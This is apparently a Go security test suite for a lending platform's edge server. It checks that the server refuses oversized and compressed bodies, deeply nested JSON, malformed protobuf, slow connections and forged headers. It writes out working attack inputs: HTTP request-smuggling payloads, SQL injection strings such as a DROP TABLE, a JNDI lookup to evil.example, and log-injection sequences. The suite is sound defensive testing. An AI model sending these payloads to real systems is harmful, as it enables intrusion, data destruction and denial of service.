package attack_test

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/google/uuid"

	"github.com/lendgate/lendgate/gen/go/lendgate/agent/v1/agentv1connect"
	"github.com/lendgate/lendgate/gen/go/lendgate/mobile/v1/mobilev1connect"
	typev1 "github.com/lendgate/lendgate/gen/go/lendgate/type/v1"
)

// bodyLimit is what the edge takes, in bytes.
const bodyLimit = 64 << 10

func inputRows() []row {
	const noFiles = "no file is taken from anybody"
	return []row{
		{id: "T01", attack: "a body over the limit, with and without its length", expected: "429 `resource_exhausted`", run: t01},
		{id: "T02", attack: "gzip that unpacks to a thousandfold, twice packed, other packings", expected: "refused at the limit", run: t02},
		{id: "T03", attack: "JSON 10,000 deep, of many keys, twice the same key, huge numbers, NaN, lone surrogates", expected: "400 within 200 ms", run: t03},
		{id: "T04", attack: "Protobuf: groups, groups in groups, lengths that lie", expected: "400", run: t04},
		{id: "T05", attack: "headers and bodies that come a byte at a time", expected: "closed in time, others are served", run: t05},
		{id: "T06", attack: "two lengths, length and chunks, bare line feeds, a space before the colon", expected: "400; or framed by the chunks alone, as RFC 9112 6.1 allows; nothing smuggled is served", run: t06},
		{id: "T07", attack: "HTTP/2: streams that are reset at once, pings, headers that never end", expected: "the last is closed; others are served", run: t07},
		{id: "T08", attack: "a header of 1 MB, 10,000 headers", expected: "431 or closed", run: t08},
		{id: "T09", attack: "a websocket from a foreign origin", expected: "403", run: t09},
		{id: "T10", attack: "websocket: floods, frames over the limit, no pong", expected: "closed, others hear on", by: []string{"realtime.TestTooManyCommandsAreRefused", "realtime.TestViolationsCloseTheSocket", "realtime.TestOversizedCommandsAreAnsweredNotCut", "realtime.TestPingsComeOnScheduleAndWantPongs", "realtime.TestSlowClientIsClosed"}},
		{id: "T11", attack: "a preflight and a form from a foreign page", expected: "no permission is given, nothing is done", run: t11},
		{id: "T12", attack: "SQL in every string of every RPC that a borrower and a colleague may call", expected: "no 5xx, all tables stand", run: t12},
		{id: "T13", attack: "markup in names and documents", expected: "escaped", by: []string{"agreement.TestNamesCannotWriteMarkup", "web.TestEveryAnswerIsGuarded"}},
		{id: "T14", attack: "addresses of our own network in postbacks", expected: "refused when dialled", missing: "nobody outside names an address that we call"},
		{id: "T15", attack: "names of files", expected: "stored by id", missing: noFiles},
		{id: "T16", attack: "pictures that explode, with scripts, with places", expected: "refused, made anew", missing: noFiles},
		{id: "T17", attack: "PDF with scripts, archives", expected: "refused", missing: noFiles},
		{id: "T18", attack: "line feeds and ANSI in what is logged; secrets and phones of all of this suite", expected: "one JSON line each, none of them in the log", run: t18},
		{id: "T19", attack: "forged X-Forwarded-For", expected: "the peer counts", run: t19},
		{id: "T20", attack: "look for personal data where caches and logs keep it", expected: "`no-store` on every RPC's answer", run: t20},
	}
}

func t01(t *testing.T, p *people) string {
	large := bytes.Repeat([]byte("x"), bodyLimit+1)
	m := rpc(t, mobilev1connect.AppServiceGetAppConfigProcedure)
	expect(t, "with a length", p.borys.send(t, m, large, nil, nil), "REQUEST_TOO_LARGE")
	expect(t, "in chunks", p.borys.send(t, m, large, nil, func(r *http.Request) { r.ContentLength = -1 }), "REQUEST_TOO_LARGE")
	all := rpcs(t)
	for _, m := range all { // Before anybody is asked who they are.
		expect(t, short(m), p.borys.send(t, m, large, nil, nil), "REQUEST_TOO_LARGE")
	}
	return fmt.Sprintf("2 kinds, and %d RPCs", len(all))
}

func t02(t *testing.T, p *people) string {
	pack := func(plain []byte) []byte {
		var out bytes.Buffer
		w := gzip.NewWriter(&out)
		if _, err := w.Write(plain); err != nil || w.Close() != nil {
			t.Fatal(err)
		}
		return out.Bytes()
	}
	m, bomb := rpc(t, mobilev1connect.AppServiceGetAppConfigProcedure), pack(make([]byte, 48<<20))
	for what, body := range map[string][]byte{"once": bomb[:min(len(bomb), bodyLimit)], "twice": pack(bomb)} {
		began := time.Now()
		a := p.borys.send(t, m, body, func(r *http.Request) { r.Header.Set("Content-Encoding", "gzip") }, nil)
		if a.Status != http.StatusTooManyRequests && a.Status != http.StatusBadRequest || time.Since(began) > 2*time.Second {
			t.Errorf("%s: %d %s", what, a.Status, a.Reason)
		}
	}
	for _, encoding := range []string{"br", "zstd", "deflate", "gzip, gzip"} {
		if a := p.borys.send(t, m, bomb[:100], func(r *http.Request) { r.Header.Set("Content-Encoding", encoding) }, nil); a.ok() || a.Status >= 500 && a.Code != "unimplemented" {
			t.Errorf("%s: %d %s", encoding, a.Status, a.Reason)
		}
	}
	return "48 MB in 48 KB, 4 other packings"
}

func t03(t *testing.T, p *people) string {
	m := rpc(t, mobilev1connect.ApplyServiceQuoteLoanProcedure)
	bodies := map[string]string{
		"deep objects": strings.Repeat(`{"principal":`, 4000) + "1" + strings.Repeat("}", 4000), "deep arrays": strings.Repeat("[", 10_000) + strings.Repeat("]", 10_000),
		"deep unknown": `{"x":` + strings.Repeat("[", 10_000) + strings.Repeat("]", 10_000) + "}",
		"many keys":    "{" + strings.TrimSuffix(strings.Repeat(`"productCode":"cash",`, 3000), ",") + "}", "same key": `{"productCode":"cash","productCode":"cash"}`,
		"both names": `{"productCode":"cash","product_code":"cash"}`, "huge number": `{"instalments":1e400}`, "fraction": `{"instalments":1.5}`, "NaN": `{"instalments":NaN}`,
		"lone surrogate": `{"productCode":"\ud800"}`, "no UTF-8": "{\"productCode\":\"\xff\"}", "NUL": "{\"productCode\":\"\x00\"}", "trailing": `{} {}`, "nothing": " ",
	}
	for what, body := range bodies {
		began := time.Now()
		a := p.borys.send(t, m, []byte(body), nil, nil)
		if took := time.Since(began); a.Status != http.StatusBadRequest || took > 200*time.Millisecond {
			t.Errorf("%s: %d %s after %s", what, a.Status, a.Reason, took)
		}
	}
	half, staffed := p.admin.hire(t, p.in, "creditor", false), 0
	for _, m := range rpcs(t) { // Borrowers' and partners' RPCs get the same in test/platform.
		if m.Descriptor.ParentFile().Package() == "lendgate.agent.v1" {
			staffed++
			who := p.admin
			if m.Permission == typev1.Permission_PERMISSION_STAFF_LOGIN { // For whom the second factor is still missing.
				who = half.caller
			}
			expect(t, short(m), who.send(t, m, []byte(`{"request_id":`), nil, nil), "MALFORMED_REQUEST")
		}
	}
	return fmt.Sprintf("%d bodies, and %d RPCs of staff", len(bodies), staffed)
}

func t04(t *testing.T, p *people) string {
	m := rpc(t, mobilev1connect.ApplyServiceQuoteLoanProcedure)
	bodies := map[string][]byte{
		"groups in groups": append(bytes.Repeat([]byte{0x7b}, 20_000), bytes.Repeat([]byte{0x7c}, 20_000)...), "a group without end": {0x7b},
		"a length that lies": {0x0a, 0xff, 0xff, 0xff, 0xff, 0x07}, "field 0": {0x00, 0x00}, "a wire type that is none": {0x0f},
		"packed numbers": append([]byte{0x7a, 0x80, 0x80, 0x03}, make([]byte, 49152)...), "no UTF-8": {0x0a, 0x01, 0xff},
	}
	for what, body := range bodies {
		a := p.borys.send(t, m, body, func(r *http.Request) { r.Header.Set("Content-Type", "application/proto") }, nil)
		if a.Status != http.StatusBadRequest {
			t.Errorf("%s: %d %s", what, a.Status, a.Reason)
		}
	}
	return fmt.Sprintf("%d bodies", len(bodies))
}

// dial opens a connection to the edge.
func (p *people) dial(t *testing.T) net.Conn {
	t.Helper()
	var dialer net.Dialer
	conn, err := dialer.DialContext(t.Context(), "tcp", strings.TrimPrefix(p.in.platform.EdgeURL, "http://"))
	if err != nil {
		t.Fatal(err)
	}
	return conn
}

func t05(t *testing.T, p *people) string {
	many, slow := scale(t, 100), make([]net.Conn, 0, 100)
	for range many {
		conn := p.dial(t)
		defer conn.Close()
		if _, err := conn.Write([]byte("POST / HTTP/1.1\r\nHost: x\r\nX-Slow: ")); err != nil {
			t.Fatal(err)
		}
		slow = append(slow, conn)
	}
	if a := p.borys.send(t, home(t), []byte("{}"), nil, nil); !a.ok() {
		t.Errorf("meanwhile others get %d %s", a.Status, a.Reason)
	}
	deadline := time.Now().Add(12 * time.Second)
	for _, conn := range slow {
		if err := conn.SetReadDeadline(deadline); err != nil {
			t.Fatal(err)
		}
		for buffer := make([]byte, 512); ; {
			if _, err := conn.Read(buffer); err != nil {
				if timeout, ok := err.(net.Error); ok && timeout.Timeout() { //nolint:errorlint // As net gives it.
					t.Fatal("a connection without a whole header is still open")
				}
				break
			}
		}
	}
	return fmt.Sprintf("%d connections of 5,000 with slow headers; slow bodies: `app.TestWhoSendsSlowlyIsCutOff`", many)
}

func t06(t *testing.T, p *people) string {
	const smuggled = "GET /lendgate.mobile.v1.AppService/GetAppConfig?connect=v1&encoding=json&message=%7B%7D HTTP/1.1\r\nHost: x\r\n\r\n"
	head := "POST /lendgate.mobile.v1.AppService/GetAppConfig HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
	requests := map[string]string{
		"length and chunks": head + "Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nX" + smuggled, "two lengths": head + "Content-Length: 2\r\nContent-Length: 60\r\n\r\n{}" + smuggled,
		"a list of lengths": head + "Content-Length: 2, 60\r\n\r\n{}" + smuggled, "a space before the colon": head + "Content-Length : 2\r\n\r\n{}" + smuggled,
		"chunks twice": head + "Transfer-Encoding: chunked, chunked\r\n\r\n0\r\n\r\n" + smuggled, "unknown coding": head + "Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + smuggled,
		"signed length": head + "Content-Length: +2\r\n\r\n{}" + smuggled,
		"bare CR":       head + "X: a\rContent-Length: 2\r\n\r\n{}" + smuggled, "chunk size that lies": head + "Transfer-Encoding: chunked\r\n\r\nffffffffffffffff1\r\n{}\r\n0\r\n\r\n" + smuggled,
	}
	for what, request := range requests {
		conn := p.dial(t)
		if err := conn.SetDeadline(time.Now().Add(5 * time.Second)); err != nil {
			t.Fatal(err)
		}
		if _, err := conn.Write([]byte(request)); err != nil {
			t.Fatal(err)
		}
		reader := bufio.NewReader(conn)
		response, err := http.ReadResponse(reader, nil)
		if err == nil {
			// Of two framings the chunks count, whatever the length says (RFC 9112 section 6.1).
			if response.StatusCode < 400 && what != "length and chunks" {
				t.Errorf("%s: %s", what, response.Status)
			}
			_, _ = io.Copy(io.Discard, response.Body) // What follows is the next answer, if there is one.
			response.Body.Close()
			if again, err := http.ReadResponse(reader, nil); err == nil {
				again.Body.Close()
				if again.StatusCode == http.StatusOK {
					t.Errorf("%s: what was smuggled was served", what)
				}
			}
		}
		conn.Close()
	}
	return fmt.Sprintf("%d requests", len(requests))
}

func t08(t *testing.T, p *people) string {
	for what, fill := range map[string]func(*http.Request){
		"1 MB":    func(r *http.Request) { r.Header.Set("X-Large", strings.Repeat("a", 1<<20)) },
		"headers": func(r *http.Request) { r.Header["X-Many"] = strings.Split(strings.Repeat("a,", 10_000), ",") },
	} {
		r := p.borys.request(t, rpc(t, mobilev1connect.AppServiceGetAppConfigProcedure), []byte("{}"), "")
		fill(r)
		if a, err := try(r); err == nil && a.Status != http.StatusRequestHeaderFieldsTooLarge {
			t.Errorf("%s: %d", what, a.Status)
		}
	}
	return "2 kinds; CR and LF in values are refused by the server's parser (T06)"
}

func t09(t *testing.T, p *people) string {
	origins := []string{"https://evil.example", "null", "https://" + strings.TrimPrefix(p.in.platform.EdgeURL, "http://") + ".evil.example"}
	for _, origin := range origins {
		r, err := http.NewRequestWithContext(t.Context(), http.MethodGet, p.in.platform.EdgeURL+"/connection/websocket", http.NoBody)
		if err != nil {
			t.Fatal(err)
		}
		for name, value := range map[string]string{
			"Connection": "Upgrade", "Upgrade": "websocket", "Sec-WebSocket-Version": "13", "Sec-WebSocket-Key": "AAAAAAAAAAAAAAAAAAAAAA==", "Origin": origin,
		} {
			r.Header.Set(name, value)
		}
		if a := do(t, r); a.Status != http.StatusForbidden {
			t.Errorf("from %s: %d", origin, a.Status)
		}
	}
	return fmt.Sprintf("%d origins; tokens: `realtime.TestStreamIsNobodyElses`", len(origins))
}

func t11(t *testing.T, p *people) string {
	for _, m := range rpcs(t) {
		preflight := p.borys.request(t, m, nil, "")
		preflight.Method, preflight.Body, preflight.ContentLength = http.MethodOptions, http.NoBody, 0
		preflight.Header.Set("Origin", "https://evil.example")
		preflight.Header.Set("Access-Control-Request-Method", "POST")
		if a := do(t, preflight); a.header.Get("Access-Control-Allow-Origin") != "" {
			t.Errorf("%s lets %s in", short(m), a.header.Get("Access-Control-Allow-Origin"))
		}
	}
	form := p.borys.request(t, start(t), []byte("requestId=x"), uuid.NewString())
	form.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	if a := do(t, form); a.Status < 400 || a.header.Get("Set-Cookie") != "" {
		t.Errorf("a form: %d", a.Status)
	}
	return fmt.Sprintf("%d RPCs; no cookie is ever set", len(rpcs(t)))
}

func t12(t *testing.T, p *people) string {
	attacks := []string{"' OR '1'='1", "'; DROP TABLE identity.persons; --", `\'; SELECT pg_sleep(5); --`, "1) UNION SELECT 1,2,3--", "${jndi:ldap://evil.example}", "{{7*7}}", "%00%27", "$1"}
	calls := 0
	for _, m := range rpcs(t) {
		who := p.borys
		if m.Procedure == agentv1connect.AuthServiceEnrollDeviceProcedure || m.Signature.Number() == 4 || m.Signature.Number() == 2 {
			continue
		}
		if m.Descriptor.ParentFile().Package() == "lendgate.agent.v1" {
			who = p.colleagues["admin"].caller
		}
		fields := m.Descriptor.Input().Fields()
		for i := range fields.Len() {
			if fields.Get(i).Kind().String() != "string" || fields.Get(i).IsList() || fields.Get(i).Name() == "request_id" {
				continue
			}
			for _, text := range attacks[:min(len(attacks), 3+scale(t, 1))] {
				calls++
				key := uuid.NewString()
				raw, err := json.Marshal(map[string]any{"requestId": key, fields.Get(i).JSONName(): text})
				if err != nil {
					t.Fatal(err)
				}
				if m.ReadOnly {
					raw, _ = json.Marshal(map[string]any{fields.Get(i).JSONName(): text}) // The same map without the key.
				}
				if a := who.sendWithKey(t, m, raw, key, nil, nil); a.Status >= 500 {
					t.Errorf("%s.%s = %q: %d %s", short(m), fields.Get(i).Name(), text, a.Status, a.Reason)
				}
			}
		}
	}
	if a := p.borys.send(t, home(t), []byte("{}"), nil, nil); !a.ok() {
		t.Errorf("afterwards: %d %s", a.Status, a.Reason)
	}
	return fmt.Sprintf("%d calls", calls)
}

func t18(t *testing.T, p *people) string {
	marker := "canary-" + uuid.NewString()
	p.borys.send(t, home(t), []byte("{}"), func(r *http.Request) {
		r.Header.Set("User-Agent", marker+"\t{\"level\":\"ERROR\",\"msg\":\"forged\"}")
		r.Header.Set("Lendgate-App-Version", marker)
	}, nil)
	r := p.borys.request(t, home(t), nil, "")
	r.URL.Path = "/" + marker + "\n{\"level\":\"ERROR\",\"msg\":\"forged\"}\x1b[2J"
	do(t, r)
	log := p.in.read("lendgate.log")
	for line := range strings.Lines(log) {
		if !json.Valid([]byte(line)) || strings.ContainsRune(line, '\x1b') {
			t.Errorf("a line that is no JSON, or has a control character: %q", line)
		}
		if strings.Contains(line, `"msg":"forged"`) {
			t.Errorf("a line was forged: %q", line)
		}
	}
	secrets := map[string]string{"a session": p.borys.bearer, "a session of staff": p.admin.bearer, "a password": staffPassword, "an address": "1 Example Street"}
	for i, j := range p.in.journeys {
		secrets[fmt.Sprintf("phone %d", i)], secrets[fmt.Sprintf("refresh token %d", i)] = j.Phone, j.RefreshToken
	}
	for what, secret := range secrets {
		if secret == "" || strings.Contains(log, secret) {
			t.Errorf("%s stands in the log, or there is none", what)
		}
	}
	return fmt.Sprintf("%d lines, %d canaries", strings.Count(log, "\n"), len(secrets))
}

// t19 floods with enrolments, each of which says to come from another address.
func t19(t *testing.T, p *people) string {
	m, limited := rpc(t, mobilev1connect.AuthServiceEnrollDeviceProcedure), false
	ctx, cancel := context.WithTimeout(t.Context(), 30*time.Second)
	defer cancel()
	calls := 0
	for ; calls < 400 && !limited && ctx.Err() == nil; calls++ {
		c := newCaller(t, p.in, "forged address", "demo")
		limited = c.send(t, m, []byte("{}"), func(r *http.Request) {
			r.Header.Set("X-Forwarded-For", fmt.Sprintf("203.0.113.%d", calls%250))
			r.Header.Set("Forwarded", "for=198.51.100.1")
			r.Header.Set("X-Real-Ip", "198.51.100.2")
		}, nil).Reason == "RATE_LIMITED"
	}
	if !limited {
		t.Errorf("%d enrolments from one peer under many names were let through", calls)
	}
	return "enrolments until the limit of the peer"
}

func t20(t *testing.T, p *people) string {
	for _, m := range rpcs(t) {
		a := p.borys.send(t, m, []byte("{}"), nil, nil)
		if !strings.Contains(a.header.Get("Cache-Control"), "no-store") {
			t.Errorf("%s: Cache-Control: %q", short(m), a.header.Get("Cache-Control"))
		}
		if a.header.Get("X-Content-Type-Options") != "nosniff" || a.header.Get("Content-Type") == "" {
			t.Errorf("%s: %v", short(m), a.header)
		}
		for _, leak := range []string{"goroutine ", "pgx", "SQLSTATE", ".go:"} {
			if !a.ok() && strings.Contains(string(a.body), leak) {
				t.Errorf("%s tells %q: %s", short(m), leak, a.body)
			}
		}
	}
	return fmt.Sprintf("%d RPCs", len(rpcs(t)))
}
